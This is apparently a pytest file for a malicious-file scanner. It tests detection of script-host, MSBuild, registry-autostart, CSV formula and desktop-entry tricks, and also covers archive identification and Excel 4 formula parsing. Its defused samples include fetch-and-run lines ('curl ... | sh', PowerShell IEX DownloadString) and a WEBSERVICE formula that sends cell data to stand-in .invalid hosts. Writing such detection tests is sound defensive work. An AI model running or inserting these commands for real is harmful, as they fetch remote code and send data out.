"""Small files that act by being opened or looked at, and names of archives that nothing here opens."""

from __future__ import annotations

import os

import pytest

from netinspect.files.kind import NOT_UNPACKED, identify
from netinspect.limits import Limits
from netinspect.samples import archives
from netinspect.scan import biff
from netinspect.scan.contract import Finding
from netinspect.scan.examine import Examiner
from netinspect.scan.rulefiles import load_sources
from netinspect.scan.rules import RuleEngine

RULES = RuleEngine(load_sources())
EXAMINER = Examiner(Limits(), RULES)
MSBUILD = "http://schemas.microsoft.com/developer/msbuild/2003"
SHELL = 'new ActiveXObject("WScript.Shell").Run("none")'


def signatures(data: bytes) -> set[str]:
    return {one.signature for one in RULES.scan(data, "a" * 64) if isinstance(one, Finding)}


# Each is only as much of the trick as its rule needs, and does nothing; names end in .invalid.
TRICKS = [
    ("Script_Host_Job", f"<job id=a><script language=JScript>{SHELL}</script></job>"),
    ("Page_With_Host_Objects", f"<html><script>{SHELL}</script></html>"),
    ("Style_Sheet_Script", f'<a xmlns:m="urn:schemas-microsoft-com:xslt"><m:script>{SHELL}</m:script></a>'),
    ("Build_File_Command", f'<Project xmlns="{MSBUILD}"><Exec Command="cmd /c x"/>'),
    ("Icon_From_Server", "[InternetShortcut]\r\nURL=http://a.invalid/\r\nIconFile=\\\\server.invalid\\a.ico\r\n"),
    ("Icon_From_Server", "[.ShellClassInfo]\r\nIconResource=\\\\server.invalid\\a.ico\r\n"),
    ("Registry_Autostart", "REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Software\\Windows\\CurrentVersion\\Run]\r\n"),
    ("Registry_File", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]\r\n"),
    ("Setup_Information_Script", '[Version]\r\nSignature="$CHICAGO$"\r\n[a]\r\nscrobj.dll,NI,http://a.invalid\r\n'),
    ("Remote_Search_Connector", "<searchConnectorDescription><url>\\\\server.invalid\\a</url>"),
    ("Csv_Formula_Function", '1,2\r\n=DDE("none","/c x","1")\r\n'),
    ("Csv_Formula_Function", "=MSEXCEL|'\\..\\..\\none.exe /c x'!''\r\n"),
    ("Csv_Formula_Function", '1,=WEBSERVICE("http://a.invalid/?x="&A1)\r\n'),
    ("Desktop_Entry_Command", "[Desktop Entry]\nType=Application\nExec=sh -c none\n"),
    ("Shell_Downloader", "#!/bin/sh\ncurl -s http://a.invalid/a | sh\n"),
    ("Form_Data_Script", "%FDF-1.2\n1 0 obj\n<</FDF<</JavaScript<</After(none)>>>>>>\n"),
    ("PowerShell_Text", "IEX (New-Object Net.WebClient).DownloadString('http://a.invalid/a')"),
]  # fmt: skip


@pytest.mark.parametrize(("signature", "text"), TRICKS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le"])
def test_a_file_that_acts_is_found(signature: str, text: str, encoding: str) -> None:
    found = signatures(text.encode(encoding))
    # Linux has no wide files, and a table in UTF-16 is looked at for its commands only.
    if encoding == "utf-8" or signature in ("Script_Host_Job", "Page_With_Host_Objects", "PowerShell_Text"):
        assert signature in found


HARMLESS = [
    "Please curl http://www.example.org/ and tell me what you see | thanks",
    "[InternetShortcut]\r\nURL=http://www.example.org/\r\nIconFile=C:\\a.ico\r\n",
    "<html><script>document.write('run')</script><p>CreateObject is a function of VBA</p></html>",
    "a;b\r\n=SUM(A1:A3);=HYPERLINK(\"http://www.example.org/\")\r\n-1;+2;@me\r\n",
    "#!/bin/sh\nls | sort\n",
    "[Desktop Entry]\nType=Application\nExec=firefox %u\n",
    "To load it: Invoke-WebRequest http://www.example.org/a.zip -OutFile a.zip",
    f'<Project xmlns="{MSBUILD}"><Compile Include="a.cs"/></Project>',
]


@pytest.mark.parametrize("text", HARMLESS)
def test_honest_files_are_left_alone(text: str) -> None:
    assert signatures(text.encode()) == set()


UNKNOWN = {
    "zoo": b"ZOO 2.10 Archive.\x1a\0\0\xdc\xa7\xc4\xfd" + bytes(40), "arc": b"\x1a\x08A.TXT" + bytes(28),
    "stuffit": b"SIT!\0\x01\0\0\0\0rLau" + bytes(20), "lrzip": b"LRZI\0\x06" + bytes(20),
    "lzop": b"\x89LZO\0\r\n\x1a\n" + bytes(20), "zpaq": b"7kSt\xa01" + bytes(20), "lz4": b"\x02!L\x18" + bytes(20),
    "rar1": b"RE~^\x07\0" + bytes(20), "installshield": b"ISc(" + bytes(20), "daa": b"DAA\0" + bytes(20),
    "snappy": b"\xff\x06\0\0sNaPpY" + bytes(20), "freearc": b"ArC\x01" + bytes(20),
    "kwaj": b"KWAJ\x88\xf0'\xd1" + bytes(9),
}  # fmt: skip


@pytest.mark.parametrize("kind", UNKNOWN)
def test_archives_that_nothing_opens_are_unscanned(kind: str) -> None:
    assert identify(UNKNOWN[kind]) == kind
    assert kind in NOT_UNPACKED
    assert [one.reason for one in EXAMINER.examine(UNKNOWN[kind]).unscanned] == [f"cannot open: {kind}"]


@pytest.mark.parametrize("text", [b"SIT! here", b"UHAUL is a firm", b"\x1a", b"zPQ is a word", b"yz01 is", b"GCAX 1"])
def test_texts_that_begin_like_one_are_texts(text: bytes) -> None:
    assert identify(text) in ("text", "data")


OCTETS = bytes(range(256)) * 4


@pytest.mark.parametrize("name", ["a.zip.002", "a.7z.003", "a.part02.rar", "a.r01", "a.z03", "A.ZIP ", "a.br"])
@pytest.mark.parametrize("nested", [False, True])
def test_parts_of_split_archives_are_unscanned(name: str, nested: bool) -> None:
    data = archives.make_zip({name: OCTETS}, 0) if nested else OCTETS
    answer = EXAMINER.examine(data, name="outer.zip" if nested else name)
    assert [one.reason for one in answer.unscanned] == ["cannot open: named as an archive"]


def test_the_last_part_of_a_split_zip_is_unscanned() -> None:
    # The directory is in it, and the members it lists are not.
    whole = archives.make_zip({"a": os.urandom(900)}, 0)
    assert EXAMINER.examine(b"\0" + whole[500:], name="a.zip").unscanned


@pytest.mark.parametrize("name", ["scan.001", "a.dat", "zip", "a.bin", "list.rev"])
def test_other_octets_are_nobodys_archive(name: str) -> None:
    assert EXAMINER.examine(OCTETS, name=name).unscanned == ()


def test_an_archive_behind_something_else_is_opened_whatever_the_name_says() -> None:
    answer = EXAMINER.examine(OCTETS + archives.make_zip({"a": b"letter"}), name="a.zip")
    assert answer.unscanned == ()
    assert len(answer.artifacts) == 2


def test_a_zip_that_begins_with_the_mark_of_a_split_one_is_a_zip() -> None:
    assert identify(b"PK\x07\x08" + archives.make_zip({"a": b"1"})) == "zip"


def test_a_table_of_symbols_behind_blanks_is_one() -> None:
    assert identify(b"\r\n  ID;PWXL;N;E\r\n") == "sylk"


# --- Excel 4 --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("formula", "calls"),
    [
        ('=FORMULA(CHAR(61)&CHAR(69)&"XE"&CHAR(67)&"(""x"")",A1)', ["EXEC", "FORMULA"]),
        ('="=CA"&"LL(""u"",1)"', ["CALL"]),
        ('=FORMULA.FILL("=1",A1)', ["FORMULA"]),
        ("=A1&B1", []),
        ('="the char(61) of it" & A1', []),
    ],
)
def test_what_a_formula_writes_is_read(formula: str, calls: list[str]) -> None:
    assert biff.text_calls(formula) == calls


def test_a_formula_in_tokens_made_of_characters_is_read() -> None:
    tokens = [b"\x1e" + bytes([octet]) + b"\0\x41\x6f\0" for octet in b"=EXEC("]
    assert biff.xlsb_calls(tokens[0] + b"\x08".join(tokens[1:])) == ["EXEC"]
    assert biff.xlsb_calls(b"\x42\x02\x60\x80") == ["FORMULA"]
